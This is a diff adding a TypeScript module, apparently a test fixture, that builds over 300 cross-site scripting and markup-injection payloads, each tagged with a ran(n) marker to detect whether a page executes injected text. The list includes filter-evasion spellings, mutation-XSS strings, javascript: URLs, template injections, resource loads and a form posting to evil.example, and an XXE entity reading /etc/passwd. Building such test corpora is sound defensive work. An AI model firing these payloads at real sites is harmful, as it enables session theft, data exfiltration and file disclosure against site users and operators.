@@ -1,0 +1,111 @@
+/** What a page that writes text as markup would run or show: 300 and more, each with its own marker `ran(n)`. */
+
+const TAGS = [
+  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee'],
+  ...['select autofocus', 'textarea autofocus', 'button autofocus', 'object data=x', 'embed src=x', 'table'],
+  ...['iframe', 'math', 'form', 'dialog open', 'x tabindex=1 autofocus contenteditable', 'meter'],
+]
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'ontoggle',
+  'onstart',
+  'onmouseover',
+  'onanimationstart',
+  'onclick',
+]
+
+/** The same thing, written so that a filter would not know it. */
+const SPELLINGS: readonly ((code: string) => string)[] = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<SCRIPT>${code}</SCRIPT >`,
+  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
+  (code) => `<script\n>${code}</script\t>`,
+  (code) => `<script src="data:text/javascript,${code}"></script>`,
+  (code) => `<script type=module>${code}</script>`,
+  (code) => `<img src=x onerror="${code}">`,
+  (code) => `<img src=x onerror=${code}//`,
+  (code) => `<img/src=x/onerror=${code}>`,
+  (code) => `<img src=\`x\` onerror=\`${code}\`>`,
+  (code) => `<img src="x"onerror="${code}"`,
+  (code) => `"><img src=x onerror=${code}>`,
+  (code) => `'><img src=x onerror=${code}>`,
+  (code) => `\`><img src=x onerror=${code}>`,
+  (code) => `--><img src=x onerror=${code}>`,
+  (code) => `]]><img src=x onerror=${code}>`,
+  (code) => `</title><img src=x onerror=${code}>`,
+  (code) => `</textarea><img src=x onerror=${code}>`,
+  (code) => `</style><img src=x onerror=${code}>`,
+  (code) => `</script><img src=x onerror=${code}>`,
+  (code) => `</span></div></section><img src=x onerror=${code}>`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
+  (code) => `<svg><a xlink:href="javascript:${code}"><text x=20 y=20>x</text></a></svg>`,
+  (code) =>
+    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x">`,
+  (code) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
+  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
+  (code) => `<a href="javascript:${code}">x</a>`,
+  (code) => `<a href="java&#x09;script:${code}">x</a>`,
+  (code) => `<a href="data:text/html,<script>${code}</script>">x</a>`,
+  (code) => `<iframe src="javascript:${code}"></iframe>`,
+  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
+  (code) => `<object data="javascript:${code}"></object>`,
+  (code) => `<embed src="javascript:${code}">`,
+  (code) => `<base href="https://evil.example/"><img src=x onerror=${code}>`,
+  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  () => '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  () => '<link rel=stylesheet href="https://evil.example/x.css">',
+  () => '<link rel=prefetch href="https://evil.example/x">',
+  () => '<style>@import "https://evil.example/x.css";</style>',
+  () => '<style>body{display:none!important}</style>',
+  () => '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
+  () => '<img src="https://evil.example/x.png">',
+  () => '<form action="https://evil.example/"><input name=words><button>x</button></form>',
+  () => '<button data-do="accept">x</button>',
+  () => '<template shadowrootmode=open><b>x</b></template>',
+  (code) => `&lt;img src=x onerror=${code}&gt;`,
+  (code) => `&#60;img src=x onerror=${code}&#62;`,
+  (code) => `\\u003cimg src=x onerror=${code}\\u003e`,
+  (code) => `%3Cimg%20src%3Dx%20onerror%3D${code}%3E`,
+  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
+  (code) => `\u00bcscript\u00be${code}\u00bc/script\u00be`,
+  (code) => `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
+  (code) => `<\u0000script>${code}</script>`,
+  (code) => `\ufeff<img src=x onerror=${code}>`,
+  (code) => `\u202e<img src=x onerror=${code}>\u202c`,
+  (code) => `{{constructor.constructor('${code}')()}}`,
+  (code) => `\${${code}}`,
+  (code) => `#{${code}} <%= ${code} %> {%${code}%} [[${code}]] {{{${code}}}}`,
+  () => '$t(staff.accept) {{name}} {{count}}',
+  (code) => `[x](javascript:${code}) ![x](https://evil.example/x) <javascript:${code}>`,
+  () => 'https://evil.example/ www.evil.example mailto:x@evil.example tel:+31600000000',
+  (code) => `javascript:${code}`,
+  (code) => `';${code}//`,
+  (code) => `";${code}//`,
+  (code) => `\`;${code}//`,
+  (code) => `</script><script>${code}</script>`,
+  (code) => `{"__html":"<img src=x onerror=${code}>"}`,
+  (code) => `{"type":"script","props":{"children":"${code}"},"constructor":null}`,
+  () => '<!-- <b>x</b> --><!--[if gte IE 4]><b>x</b><![endif]-->',
+  () => '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
+  () => '<b>bold</b><br><hr><h1>x</h1><ul><li>x</ul><table><tr><td>x',
+  () => '<custom-element></custom-element><slot></slot>',
+]
+
+/** `code(n)`: what a payload runs where it is believed. */
+export function markups(code: (n: number) => string): string[] {
+  const makers = [
+    ...SPELLINGS,
+    ...TAGS.flatMap((tag) => EVENTS.map((event) => (run: string) => `<${tag} ${event}=${run}>`)),
+    ...TAGS.slice(0, 12).flatMap((tag) =>
+      EVENTS.slice(0, 6).map(
+        (event) => (run: string) => `"'></${tag.split(' ')[0]}><${tag}\n${event.toUpperCase()}\n=\n"${run}">`,
+      ),
+    ),
+  ]
+  return makers.map((make, n) => make(code(n)))
+}
